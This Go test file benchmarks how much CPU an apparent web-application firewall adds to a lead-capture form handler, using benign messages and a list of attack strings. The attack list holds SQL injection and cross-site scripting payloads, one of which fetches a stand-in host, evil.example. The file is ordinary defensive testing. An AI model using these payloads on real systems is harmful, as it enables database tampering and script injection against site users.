package capture_test

import (
	"flag"
	"fmt"
	"net/http"
	"slices"
	"testing"

	"catchment/internal/firewall"
)

var firewallPairs = flag.Int("firewall-pairs", 0, "pairs to measure what the firewall adds to a capture; none when 0")

// What people send, and what attackers do.
var mixes = []struct {
	name    string
	message func(n int) string
	inert   int     // of ten leads
	most    float64 // times the CPU of a door without firewall; 0: no bound
}{
	{"inert", func(int) string {
		return "We are looking for three rooms with a view of the harbour, ready next spring"
	}, 10, 1.5},
	{"three in ten with an apostrophe", func(n int) string {
		if n%10 < 3 {
			return "I'm interested, and we'd like to see the three rooms with a view next week"
		}
		return "We are looking for three rooms with a view of the harbour, ready next spring"
	}, 7, 4},
	{"every one an attack", func(n int) string { return fmt.Sprintf(attacks[n%len(attacks)], n) }, 0, 0},
}

var attacks = []string{
	"1' or '%d'='1", "x'; drop table leads; -- %d", "<script>alert(%d)</script>", "1 union select password, %d from users --",
	`<img src=x onerror="alert(%d)">`, "javascript:alert(%d)//", "admin'/*%d*/and 1=1#", "<svg/onload=fetch('//evil.example/%d')>",
}

// What the firewall costs: a door with it and one without take the same leads in
// alternating pairs, into real journals, two at a time, so that none finds all
// turns taken and goes by unjudged. The process's CPU a lead is compared, without a network, whose
// cost would hide it. The control is an attack: judging one costs more than
// looking at an inert lead.
func TestFirewallCost(t *testing.T) {
	if *firewallPairs == 0 {
		t.Skip("-firewall-pairs")
	}
	judge := firewall.NewJudge(firewall.Settings{})
	if err := judge.Warm(); err != nil {
		t.Fatal(err)
	}
	guarded, open := newHouse(t, guarded(judge)).door.Handler(), newHouse(t).door.Handler()
	var added []float64
	for _, mix := range mixes {
		const leads = 4000
		handleMix(t, guarded, mix.message, leads, 2)
		handleMix(t, open, mix.message, leads, 2)
		before := judge.Stats()
		var ratios, with []float64
		for n := range *firewallPairs {
			var g, o float64
			if n%2 == 0 { // who goes first changes, so that neither has the warmer cache
				g, _ = handleMix(t, guarded, mix.message, leads, 2)
				o, _ = handleMix(t, open, mix.message, leads, 2)
			} else {
				o, _ = handleMix(t, open, mix.message, leads, 2)
				g, _ = handleMix(t, guarded, mix.message, leads, 2)
			}
			ratios, with = append(ratios, g/o), append(with, g-o)
		}
		after := judge.Stats()
		slices.Sort(ratios)
		slices.Sort(with)
		middle := len(ratios) / 2
		added = append(added, with[middle])
		t.Logf("%s: %.2f× the CPU a lead of a door without firewall, median of %d pairs (%.2f to %.2f); %.0f µs more", mix.name, ratios[middle], len(ratios), ratios[0], ratios[len(ratios)-1], with[middle])
		if mix.most > 0 && ratios[middle] > mix.most {
			t.Errorf("%s: more than %.1f×", mix.name, mix.most)
		}
		all := uint64(leads * *firewallPairs)
		if got, want := after.Inert-before.Inert, all*uint64(mix.inert)/10; got != want || after.Unjudged != before.Unjudged {
			t.Errorf("%s: %d of %d were inert, want %d; %d unjudged", mix.name, got, all, want, after.Unjudged-before.Unjudged)
		}
		if spoke := after.Spoke - before.Spoke; mix.inert == 0 && spoke != all || mix.inert > 0 && spoke != 0 {
			t.Errorf("%s: rules spoke of %d of %d", mix.name, spoke, all)
		}
	}
	if added[2] < 2*added[0] {
		t.Errorf("control: an attack costs %.0f µs more, and an inert lead %.0f", added[2], added[0])
	}
	var rates []float64
	before := judge.Stats()
	for range *firewallPairs {
		_, rate := handleMix(t, guarded, mixes[2].message, 4000, 64)
		rates = append(rates, rate)
	}
	slices.Sort(rates)
	after := judge.Stats()
	judged, unjudged := after.Judged-before.Judged, after.Unjudged-before.Unjudged
	t.Logf("every one an attack, 64 at a time from one source: %.0f leads/s, median of %d; %.1f %% judged at the door, the others left to the job", rates[len(rates)/2], len(rates), 100*float64(judged)/float64(judged+unjudged))
	if rates[len(rates)/2] < 3000 {
		t.Error("fewer than 3,000 leads/s")
	}
}

// handleMix sends the leads of a mix, so many at a time.
func handleMix(t *testing.T, h http.Handler, message func(int) string, leads, at int) (micros, rate float64) {
	t.Helper()
	return handleLeads(t, h, leads, at, func(n int) string { return benchLead(n, message(n)) })
}
